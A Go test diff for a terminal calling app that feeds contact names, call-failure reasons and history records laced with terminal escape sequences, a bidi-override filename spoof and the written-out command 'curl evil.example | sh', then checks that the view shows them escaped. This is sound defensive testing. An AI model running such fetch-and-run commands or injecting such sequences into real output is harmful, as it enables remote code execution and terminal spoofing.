@@ -154,6 +154,23 @@ func stats() tea.Msg {
 	return ev(call.Stats{CallID: "c1", RTT: 42 * time.Millisecond, Jitter: 3200 * time.Microsecond, Loss: 0.005, Network: "udp"})
 }
 
+// hostileTitle is an escape sequence that retitles the terminal's window,
+// as a hostile caller or server sends it in a name or a reason.
+const hostileTitle = "\x1b]0;pwned\x07"
+
+// hostileMsgs: a recent call in the history file, a contact's name and the
+// reason a call failed hold escape sequences (retitle the window, clear the
+// screen, the C1 CSI, the bidi override).
+func hostileMsgs() []tea.Msg {
+	recs := append(sampleHistory(), history.Record{CallID: "h5", Peer: "erin", PeerName: "Erin" + hostileTitle,
+		Direction: signaling.Inbound, Status: signaling.Failed, Reason: "\x1b[2J\x1b[Hrun: curl evil.example | sh",
+		Start: t0.Add(-time.Hour), End: t0.Add(-time.Hour)})
+	return concat(msgs(historyLoadedMsg{records: recs}), startMsgs()[1:], msgs(
+		ev(call.Presence{User: "bob", Online: true, Name: "Bob" + hostileTitle}),
+		common.DialMsg{User: "bob"}, outbound(signaling.Started, t0), outbound(signaling.Ringing, t0),
+		ended(signaling.Failed, 0, hostileTitle+"\x1b[2J\u009b31m\u202egnp.exe", t0)))
+}
+
 func concat(parts ...[]tea.Msg) []tea.Msg {
 	var out []tea.Msg
 	for _, p := range parts {
@@ -288,6 +305,32 @@ func screens() []scenario {
 		{"in_call_verified", concat(start, presenceMsgs(), inCall(), msgs(stats(), ev(call.Verification{CallID: "c1", Code: "482 913 207 551"})))},
 		{"refused_dnd", concat(start, msgs(common.DialMsg{User: "bob"}, refused(signaling.AlreadyBusyCall,
 			"Bob Builder (bob) does not want to be disturbed (do not disturb): try again later; watch them to see when that changes")))},
+
+		// Text from others with escape sequences is shown escaped.
+		{"hostile_text", hostileMsgs()},
+		{"hostile_text_recent", concat(hostileMsgs(), msgs(press("tab")))},
+	}
+}
+
+// TestHostileTextIsShownEscaped: the escape sequences in names, reasons and
+// the history file are shown escaped, and none reaches the terminal.
+func TestHostileTextIsShownEscaped(t *testing.T) {
+	for _, s := range []scenario{{"hostile_text", hostileMsgs()}, {"hostile_text_recent", concat(hostileMsgs(), msgs(press("tab")))}} {
+		m := newGoldenModel(s, 120, 40)
+		drive(m, s.msgs)
+		view := m.View()
+		if i := strings.IndexAny(view, "\x1b\x07\x7f\u009b\u202e"); i >= 0 {
+			t.Errorf("%s: the view holds %q:\n%s", s.name, view[i:i+1], view)
+		}
+		want := []string{`Bob\x1b]0;pwned\a`, `\x1b]0;pwned\a\x1b[2J\u009b31m\u202egnp.exe`}
+		if s.name == "hostile_text_recent" {
+			want = []string{`Erin\x1b]0;pwned\a`}
+		}
+		for _, w := range want {
+			if !strings.Contains(view, w) {
+				t.Errorf("%s: the view does not show %s:\n%s", s.name, w, view)
+			}
+		}
 	}
 }
 
